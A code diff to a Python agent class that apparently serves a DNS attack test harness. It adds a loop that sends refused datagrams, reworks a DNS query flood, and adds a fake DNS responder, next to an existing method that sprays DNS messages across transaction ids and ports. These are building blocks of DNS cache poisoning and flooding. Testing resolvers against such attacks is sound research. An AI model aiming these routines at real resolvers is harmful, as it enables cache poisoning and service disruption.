@@ -6,6 +6,7 @@ process that stays, rather than one for each attack: on a slow machine the start
 
 from __future__ import annotations
 
+import contextlib
 import ctypes
 import errno
 import json
@@ -54,7 +55,7 @@ class Agent:
             raise OSError(ctypes.get_errno(), "disconnect")
 
     def drain(self, number: int) -> list[list[Any]]:
-        """All datagrams that wait, each with the type of its packet (packet(7)), without waiting for more."""
+        """All datagrams that wait, each with its packet's type (packet(7)), without waiting for more."""
         found: list[list[Any]] = []
         item = self._sockets[number]
         item.setblocking(False)
@@ -63,7 +64,7 @@ class Agent:
                 data, address = item.recvfrom(65535)
             except BlockingIOError:
                 return found
-            found.append([data, address[2]])
+            found.append([data, address[2] if item.family == socket.AF_PACKET else 0])
 
     def reset(self) -> None:
         """Closes all sockets."""
@@ -79,6 +80,10 @@ class Agent:
         """Gives up root for another user, and with it all capabilities."""
         os.setresgid(user, user, user)
         os.setresuid(user, user, user)
+
+    def pin(self, cpu: int) -> None:
+        """Stays on one processor from now on."""
+        os.sched_setaffinity(0, {cpu})
 
     def move(self, cgroup: str) -> None:
         """Moves this process to another control group."""
@@ -102,6 +107,16 @@ class Agent:
                     outcomes["connected"] += 1
         return dict(outcomes)
 
+    def batter(self, address: str, port: int, until: str) -> int:
+        """Sends datagrams that are refused until a file is there; how many were."""
+        refused = 0
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as item:
+            while refused & 0xFF or not Path(until).exists():
+                with contextlib.suppress(PermissionError):
+                    item.sendto(b"x", (address, port))
+                refused += 1
+        return refused
+
     def spray(self, number: int, wire: bytes, identifiers: Range, address: str, ports: Range) -> int:
         """Sends a DNS message with each of the ids to each of the ports; how many got out."""
         send, sent = self._sockets[number].sendto, 0
@@ -121,18 +136,37 @@ class Agent:
         return len(wires)
 
     def flood(self, address: str, count: int, suffix: str) -> int:
-        """Sends DNS queries for random names below a suffix, from ever new ports; how many got out."""
+        """Sends DNS queries for ever new names below a suffix, from ever new ports; how many got out."""
         labels = b"".join(bytes([len(label)]) + label.encode() for label in suffix.split("."))
         tail = labels + b"\0\0\1\0\1"
+        to, names = (address, 53), random.getrandbits(32)
         sent = 0
         for start in range(0, count, 500):
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as item:
+                send = item.sendto
                 for number in range(start, min(start + 500, count)):
-                    name = f"{random.getrandbits(64):016x}".encode()
-                    header = (number & 0xFFFF).to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\0"
-                    item.sendto(header + b"\x10" + name + tail, (address, 53))
+                    header = (number & 0xFFFF).to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\0\x10"
+                    send(b"%b%016x%b" % (header, names << 32 | number, tail), to)
                     sent += 1
         return sent
+
+    def answer(self, number: int, until: str) -> int:
+        """Answers DNS queries, each with an address of its own, until a file is there; how many."""
+        item, answered = self._sockets[number], 0
+        item.settimeout(0.1)
+        while answered & 0xFF or not Path(until).exists():
+            try:
+                query, client = item.recvfrom(512)
+            except TimeoutError:
+                if Path(until).exists():
+                    break
+                continue
+            answered += 1
+            packed = (0xC6120000 | answered & 0x1FFFF).to_bytes(4, "big")  # of 198.18.0.0/15
+            record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + packed
+            counts = b"\x81\x80\0\1\0\1\0\0\0\0"
+            item.sendto(query[:2] + counts + query[12:] + record, client)
+        return answered
 
     def _keep(self, item: socket.socket) -> int:
         item.settimeout(PATIENCE)
